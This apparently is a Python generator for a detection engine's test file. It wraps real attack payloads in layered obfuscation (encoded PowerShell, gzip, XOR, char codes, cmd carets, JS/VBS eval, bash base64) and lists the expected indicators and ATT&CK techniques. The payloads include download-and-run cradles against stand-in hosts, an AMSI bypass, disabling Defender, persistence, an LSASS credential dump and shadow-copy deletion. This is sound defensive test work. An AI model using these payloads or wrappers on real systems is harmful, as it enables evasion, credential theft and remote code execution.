#!/usr/bin/env python3
"""Builds tests/samples/nested.txt: real payloads wrapped in several layers of encoding
and obfuscation, each layer made here the way attackers' tools make it.

Run from the crate folder:  python3 tests/samples/make_nested.py

Each sample records its recipe (innermost layer first). The expectations (decoded
fragments, indicators, techniques, layers) are written below by hand from what each
payload does and how it was wrapped; none is taken from the engine's output.
"""

import base64
import gzip
import random
import zlib

rng = random.Random(20260412)


def q(s):
    """A PowerShell single-quoted literal."""
    return "'" + s.replace("'", "''") + "'"


def b64_utf16(s):
    return base64.b64encode(s.encode("utf-16le")).decode()


def b64(b):
    return base64.b64encode(b).decode()


# --- PowerShell wrappers: code -> code that runs it -------------------------------------

def enc(code, flag="-EncodedCommand", pre="powershell.exe -NoP -NonI -W Hidden"):
    return f"{pre} {flag} {b64_utf16(code)}"


def gzip_stream(code):
    data = b64(gzip.compress(code.encode(), mtime=0))
    return ("IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream("
            f"[IO.MemoryStream][Convert]::FromBase64String('{data}'),"
            "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()")


def deflate_stream(code):
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b64(raw.compress(code.encode()) + raw.flush())
    return (f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{data}'));"
            "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream($s,"
            "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")


def char_array(code):
    codes = ",".join(str(ord(c)) for c in code)
    return f"iex ([char[]]({codes}) -join '')"


def char_casts(code):
    return "iex (" + "+".join(f"[char]0x{ord(c):x}" for c in code) + ")"


def string_join(code):
    codes = ",".join(str(ord(c)) for c in code)
    return f"Invoke-Expression ([string]::Join('', [char[]]({codes})))"


def chunks(code, lo=4, hi=9):
    out, i = [], 0
    while i < len(code):
        n = rng.randint(lo, hi)
        out.append(code[i:i + n])
        i += n
    return out


def concat(code):
    return "iex (" + "+".join(q(c) for c in chunks(code)) + ")"


def fmt(code):
    parts = chunks(code)
    order = list(range(len(parts)))
    rng.shuffle(order)
    # order[k] is the piece placed at argument position k
    pos = {piece: k for k, piece in enumerate(order)}
    template = "".join("{%d}" % pos[i] for i in range(len(parts)))
    args = ",".join(q(parts[p]) for p in order)
    return f"iex (\"{template}\" -f {args})"


def reverse_index(code):
    return f"iex (-join ({q(code[::-1])}[-1..-{len(code)}]))"


def reverse_array(code):
    return (f"$r={q(code[::-1])};$c=$r.ToCharArray();[Array]::Reverse($c);"
            "iex (-join $c)")


def reverse_regex(code):
    return f"iex (-join [regex]::Matches({q(code[::-1])},'.','RightToLeft'))"


def xor(code, key=0x5A):
    data = ",".join(str(ord(c) ^ key) for c in code)
    return (f"$k=0x{key:X};$e=@({data});"
            "iex (-join ($e | % { [char]($_ -bxor $k) }))")


def junk_replace(code, junk="~#"):
    spaced = "".join(c + (junk if rng.random() < 0.4 else "") for c in code)
    return f"iex ({q(spaced)}.Replace('{junk}',''))"


def junk_regex(code):
    spaced = "".join(c + ("%%" if rng.random() < 0.4 else "") for c in code)
    return f"iex ({q(spaced)} -replace '%%','')"


def b64_utf8(code):
    return f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(code.encode())}')))"


def scriptblock_unicode(code):
    return ("[ScriptBlock]::Create([Text.Encoding]::Unicode.GetString("
            f"[Convert]::FromBase64String('{b64_utf16(code)}'))).Invoke()")


def backtick(code):
    return f"I`E`X ({q(code)})"


def odd_case(code):
    return f"InVoKe-ExPrEsSiOn -CoMmAnD {q(code)}"


def shellid(code):
    return f".($ShellId[1]+$ShellId[13]+'x') ({q(code)})"


def pshome(code):
    return f"&($PSHome[4]+$PSHome[30]+'x') {q(code)}"


def comspec_pipe(code):
    return f"{q(code)} | .($env:ComSpec[4,15,25]-join'')"


def mdr(code):
    return f".((gv '*mdr*').Name[3,11,2]-join'') {q(code)}"


def var_concat(code):
    half = len(code) // 2
    return f"$a={q(code[:half])};$b={q(code[half:])};iex ($a+$b)"


# --- Outer wrappers: a command line or another language --------------------------------

def cmd_caret(cmdline):
    out = []
    for c in cmdline.split(" -", 1)[0]:
        out.append(c + ("^" if c.isalpha() and rng.random() < 0.5 else ""))
    head = "".join(out)
    rest = cmdline[len(cmdline.split(" -", 1)[0]):]
    return f"c^m^d /c \"{head}{rest}\""


def cmd_vars(cmdline):
    return ("cmd.exe /v:on /c \"set p1=pow&&set p2=ersh&&set p3=ell&&"
            f"call %p1%%p2%%p3%{cmdline[len('powershell.exe'):]}\"")


def cmd_comspec(cmdline):
    # %COMSPEC% is C:\Windows\system32\cmd.exe: characters -7 and -6 are "c" and "m".
    return f"%COMSPEC:~-7,1%%COMSPEC:~-6,1%d /c {cmdline}"


def js_charcode(cmdline):
    inner = f'new ActiveXObject("WScript.Shell").Run("{cmdline}", 0);'
    return "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in inner) + "));"


def js_unescape(cmdline):
    inner = f'var sh = new ActiveXObject("WScript.Shell"); sh.Run("{cmdline}", 0);'
    esc = "".join("%%%02X" % ord(c) for c in inner)
    return f'eval(unescape("{esc}"));'


def vbs_chr(cmdline):
    inner = f'CreateObject("WScript.Shell").Run "{cmdline}", 0'
    return "Execute(" + " & ".join(f"Chr({ord(c)})" for c in inner) + ")"


def vbs_reverse(cmdline):
    inner = f'CreateObject("WScript.Shell").Run "{cmdline}", 0'
    return 'Execute StrReverse("' + inner[::-1].replace('"', '""') + '")'


def bash_b64(script):
    return f"echo {b64(script.encode())} | base64 -d | bash"


def bash_eval(script):
    return f'eval "$(echo {b64(script.encode())} | base64 --decode)"'


# --- Payloads: (name, code, decoded fragments, indicators, techniques) ------------------

PAYLOADS = {
    "cradle": (
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')",
        ["DownloadString('http://203.0.113.7/stage2.ps1')"],
        ["Url http://203.0.113.7/stage2.ps1", "Ipv4 203.0.113.7"],
        ["T1105", "T1059.001"],
    ),
    "amsi": (
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"
        ".GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        ["GetField('amsiInitFailed','NonPublic,Static')"],
        [],
        ["T1562.001"],
    ),
    "defender": (
        "Set-MpPreference -DisableRealtimeMonitoring $true; "
        "Add-MpPreference -ExclusionPath 'C:\\Users\\Public\\Libraries'",
        ["Set-MpPreference -DisableRealtimeMonitoring $true"],
        ["FilePath C:\\Users\\Public\\Libraries"],
        ["T1562.001"],
    ),
    "runkey": (
        "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' "
        "-Name 'OneDriveSync' -Value 'C:\\Users\\Public\\sync.exe' -Force",
        ["-Name 'OneDriveSync'"],
        ["RegistryKey HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
         "FilePath C:\\Users\\Public\\sync.exe"],
        ["T1547.001"],
    ),
    "schtask": (
        "schtasks /create /tn 'UpdateCheck' /tr 'powershell -w hidden -file "
        "C:\\ProgramData\\upd.ps1' /sc onlogon /ru SYSTEM",
        ["/tn 'UpdateCheck'"],
        ["FilePath C:\\ProgramData\\upd.ps1"],
        ["T1053.005"],
    ),
    "lsass": (
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id "
        "C:\\Windows\\Temp\\l.dmp full",
        ["comsvcs.dll, MiniDump"],
        ["FilePath C:\\Windows\\Temp\\l.dmp"],
        ["T1003.001"],
    ),
    "shadow": (
        "vssadmin delete shadows /all /quiet; bcdedit /set {default} recoveryenabled no",
        ["vssadmin delete shadows /all /quiet"],
        [],
        ["T1490"],
    ),
    "discovery": (
        "whoami /all; net user /domain; systeminfo; nltest /domain_trusts",
        ["nltest /domain_trusts"],
        [],
        ["T1033", "T1087", "T1082", "T1482"],
    ),
    "lateral": (
        "Invoke-Command -ComputerName FS01 -ScriptBlock { hostname }; "
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'notepad.exe' "
        "-ComputerName FS02",
        ["Invoke-WmiMethod -Class Win32_Process"],
        [],
        ["T1021.006", "T1047"],
    ),
    "reflective": (
        "$b=(New-Object Net.WebClient).DownloadData('https://cdn.bad-domain.top/a.bin');"
        "[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)",
        ["[Reflection.Assembly]::Load($b)"],
        ["Url https://cdn.bad-domain.top/a.bin", "Domain cdn.bad-domain.top"],
        ["T1620", "T1105"],
    ),
    "service": (
        "sc.exe create WinHelper binPath= \"C:\\ProgramData\\svc.exe\" start= auto",
        ["sc.exe create WinHelper"],
        ["FilePath C:\\ProgramData\\svc.exe"],
        ["T1543.003"],
    ),
}

# Layer kinds each wrapper adds, as the engine names them.
KINDS = {
    enc: ["EncodedCommand"], gzip_stream: ["Gzip", "Base64", "InvokeExpression"],
    deflate_stream: ["Deflate", "Base64", "InvokeExpression"],
    char_array: ["CharCodes", "Join", "InvokeExpression"],
    char_casts: ["CharCodes", "Concatenation", "InvokeExpression"],
    string_join: ["CharCodes", "Join", "InvokeExpression"],
    concat: ["Concatenation", "InvokeExpression"], fmt: ["FormatOperator", "InvokeExpression"],
    reverse_index: ["Reverse", "Join"], reverse_array: ["Reverse", "Join"],
    reverse_regex: ["Reverse", "Join"], xor: ["Xor", "CharCodes", "Join"],
    junk_replace: ["Replace"], junk_regex: ["Replace"], b64_utf8: ["Base64"],
    scriptblock_unicode: ["Base64", "InvokeExpression"], backtick: ["Backtick", "InvokeExpression"],
    odd_case: ["Backtick", "InvokeExpression"], shellid: ["InvokeExpression"],
    pshome: ["InvokeExpression"], comspec_pipe: ["InvokeExpression"], mdr: ["InvokeExpression"],
    var_concat: ["Concatenation", "InvokeExpression"], cmd_caret: ["Caret"],
    cmd_vars: ["CmdVariables"], cmd_comspec: ["Substring"], js_charcode: ["CharCodes", "Eval"],
    js_unescape: ["Unescape", "Eval"], vbs_chr: ["CharCodes", "Concatenation", "Eval"],
    vbs_reverse: ["Reverse", "Eval"], bash_b64: ["ShellDecode"], bash_eval: ["ShellDecode"],
}

# Techniques a wrapper itself shows, whatever the payload.
WRAP_TECH = {
    enc: ["T1027.010", "T1564.003"], gzip_stream: ["T1140"], deflate_stream: ["T1140"],
    b64_utf8: ["T1140"], scriptblock_unicode: ["T1140"], xor: ["T1140"],
    cmd_caret: ["T1059.003"], cmd_vars: ["T1059.003"], cmd_comspec: ["T1059.003"],
    js_charcode: ["T1059.007"], js_unescape: ["T1059.007"], vbs_chr: ["T1059.005"],
    vbs_reverse: ["T1059.005"],
}

RECIPES = [
    ("cradle", [concat, enc]),
    ("cradle", [char_array, gzip_stream, enc]),
    ("cradle", [fmt, b64_utf8, enc, cmd_caret]),
    ("cradle", [xor, deflate_stream, enc]),
    ("cradle", [reverse_index, junk_replace, enc, js_charcode]),
    ("cradle", [backtick, scriptblock_unicode, enc, vbs_chr]),
    ("cradle", [shellid, gzip_stream, enc, cmd_vars]),
    ("amsi", [concat, char_array, enc]),
    ("amsi", [fmt, reverse_array, enc]),
    ("amsi", [junk_regex, gzip_stream, enc, cmd_caret]),
    ("amsi", [char_casts, b64_utf8, enc]),
    ("amsi", [pshome, xor, enc, js_unescape]),
    ("defender", [reverse_regex, concat, enc]),
    ("defender", [string_join, deflate_stream, enc]),
    ("defender", [odd_case, fmt, enc, vbs_reverse]),
    ("defender", [comspec_pipe, gzip_stream, enc, cmd_comspec]),
    ("runkey", [var_concat, enc]),
    ("runkey", [mdr, b64_utf8, enc]),
    ("runkey", [xor, concat, gzip_stream, enc]),
    ("runkey", [fmt, char_array, enc, js_charcode]),
    ("schtask", [junk_replace, reverse_index, enc]),
    ("schtask", [char_array, scriptblock_unicode, enc]),
    ("schtask", [concat, deflate_stream, enc, cmd_vars]),
    ("lsass", [fmt, gzip_stream, enc]),
    ("lsass", [reverse_array, xor, enc]),
    ("lsass", [shellid, char_casts, enc, vbs_chr]),
    ("shadow", [concat, b64_utf8, enc]),
    ("shadow", [junk_regex, char_array, gzip_stream, enc]),
    ("shadow", [backtick, reverse_regex, enc, cmd_caret]),
    ("discovery", [char_array, enc]),
    ("discovery", [fmt, junk_replace, enc]),
    ("discovery", [pshome, deflate_stream, enc, js_unescape]),
    ("lateral", [concat, gzip_stream, enc]),
    ("lateral", [xor, fmt, enc]),
    ("lateral", [comspec_pipe, b64_utf8, enc, vbs_reverse]),
    ("reflective", [char_array, concat, enc]),
    ("reflective", [gzip_stream, reverse_index, enc]),
    ("reflective", [mdr, scriptblock_unicode, enc, cmd_comspec]),
    ("service", [fmt, xor, enc]),
    ("service", [junk_replace, gzip_stream, enc, js_charcode]),
    ("service", [var_concat, char_casts, enc]),
]

FLAGS = ["-EncodedCommand", "-enc", "-e", "-ec", "-EnCoDeD", "/enc", "-en", "-ENCODEDCOMMAND"]

BASH = [
    ("bash-cradle",
     "curl -fsSL http://198.51.100.23/x.sh -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
     [bash_b64, bash_eval],
     ["curl -fsSL http://198.51.100.23/x.sh"],
     ["Url http://198.51.100.23/x.sh", "FilePath /tmp/.x"], ["T1105"]),
    ("bash-nested-b64",
     "wget -q -O- http://update.bad-mirror.ru/i | sh",
     [bash_b64, bash_b64, bash_eval],
     ["wget -q -O- http://update.bad-mirror.ru/i | sh"],
     ["Url http://update.bad-mirror.ru/i", "Domain update.bad-mirror.ru"], ["T1105", "T1059.004"]),
    ("bash-discovery",
     "uname -a; cat /etc/passwd; id",
     [bash_eval, bash_b64],
     ["cat /etc/passwd"], ["FilePath /etc/passwd"], ["T1082"]),
]


def main():
    out = ["# Generated by make_nested.py: do not edit by hand, edit the script and run it.",
           "# Each sample names its recipe, innermost layer first.", ""]
    for n, (payload, recipe) in enumerate(RECIPES, 1):
        code, frags, iocs, techs = PAYLOADS[payload]
        text = code
        kinds, wrap_techs = [], []
        for step in recipe:
            if step is enc:
                flag = FLAGS[n % len(FLAGS)]
                text = enc(text, flag=flag)
            else:
                text = step(text)
            kinds += [k for k in KINDS[step] if k not in kinds]
            wrap_techs += [t for t in WRAP_TECH.get(step, []) if t not in wrap_techs]
        obfuscated = any(s not in (enc, shellid, pshome, comspec_pipe, mdr) for s in recipe)
        all_techs = list(techs) + wrap_techs + (["T1027"] if obfuscated else [])
        names = " > ".join(s.__name__ for s in recipe)
        out.append(f"=== nested-{n:02}-{payload}")
        out.append(f"# recipe: {names} ({len(recipe)} layers)")
        out.append("input:")
        out.append(text)
        out.append("decoded:")
        out.extend(frags)
        if iocs:
            out.append("indicators:")
            out.extend(iocs)
        out.append("techniques: " + ", ".join(dict.fromkeys(all_techs)))
        out.append("layers: " + ", ".join(kinds))
        out.append("")
    for name, script, recipe, frags, iocs, techs in BASH:
        text = script
        for step in recipe:
            text = step(text)
        out.append(f"=== nested-{name}")
        out.append(f"# recipe: {' > '.join(s.__name__ for s in recipe)} ({len(recipe)} layers)")
        out.append("input:")
        out.append(text)
        out.append("decoded:")
        out.extend(frags)
        out.append("indicators:")
        out.extend(iocs)
        out.append("techniques: " + ", ".join(techs + ["T1027"]))
        out.append("layers: ShellDecode")
        out.append("")
    with open("tests/samples/nested.txt", "w", encoding="utf-8") as f:
        f.write("\n".join(out))


if __name__ == "__main__":
    main()
